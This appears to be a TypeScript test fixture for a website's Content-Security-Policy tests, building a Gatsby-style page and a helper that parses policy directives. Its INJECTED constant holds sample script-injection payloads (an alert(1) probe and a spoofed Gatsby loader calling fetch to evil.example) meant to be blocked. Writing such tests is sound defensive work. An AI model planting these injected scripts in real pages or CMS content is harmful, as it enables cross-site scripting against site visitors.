import type { SiteSources } from "../../../node-kit/security/headers"

/** The site's sources and a page shaped like Gatsby's output, shared by the security tests. */
export const SOURCES: SiteSources = { api: ["https://api.example.com"], player: ["https://player.vimeo.com"], images: ["https://api.example.com", "https://cdn.example.com"] }

/** Gatsby 5's inline scripts as a page carries them: static-entry.js's page path, then the `_gatsby-scripts` slice's chunk map and compilation hash. */
export const PAGE_PATH_SCRIPT = '/*<![CDATA[*/window.pagePath="/detail/1002/";/*]]>*/'
export const CHUNK_MAPPING_SCRIPT = '\n            window.___chunkMapping="{\\"app\\":[\\"/app-75dbd0706fb177c579a7.js\\"]}";\n          '
export const COMPILATION_HASH_SCRIPT = 'window.___webpackCompilationHash="56090eb33d61d1761347";'

/** A page shaped like Gatsby's output: its inline scripts, JSON-LD, a styled-components sheet, a script file, style attributes. */
export const PAGE = [
  "<!DOCTYPE html><html><head>",
  '<style data-styled="" data-styled-version="6.6.0">body{color:red;}/*!sc*/\n</style>',
  '<script type="application/ld+json">{"@type":"VideoObject"}</script>',
  "</head><body>",
  '<div id="___gatsby"><div style="background-color:#285868">a</div><img style="object-fit:cover" alt=""><p style="object-fit:cover">b</p>',
  '<div style="content:&quot;x&quot;">c</div></div>',
  "<noscript><style>.x{display:none}</style></noscript>",
  `<script id="gatsby-script-loader">${PAGE_PATH_SCRIPT}</script>`,
  `<!-- slice-start id="_gatsby-scripts-1" --><script\n            id="gatsby-chunk-mapping"\n          >${CHUNK_MAPPING_SCRIPT}</script>`,
  `<script>${COMPILATION_HASH_SCRIPT}</script>`,
  '<script src="/app-75dbd0706fb177c579a7.js" async></script><!-- slice-end id="_gatsby-scripts-1" -->',
  "</body></html>",
].join("")

/** The same page with scripts that CMS HTML smuggled into an episode's description. */
export const INJECTED = PAGE.replace(
  '<div style="content:&quot;x&quot;">c</div>',
  '<div style="content:&quot;x&quot;">c<script>alert(1)</script><script id="gatsby-script-loader">window.pagePath="/";fetch("//evil.example")</script>' +
    '<script id="gatsby-chunk-mapping">window.___chunkMapping={"app":["/app.js"]};</script></div>',
)

/** A directive's sources, read back from a policy. */
export function directive(policy: string, name: string): string[] {
  const found = policy
    .split(";")
    .map((part) => part.trim().split(/\s+/))
    .find(([first]) => first === name)
  if (!found) throw new Error(`No ${name} in ${policy}`)
  return found.slice(1)
}
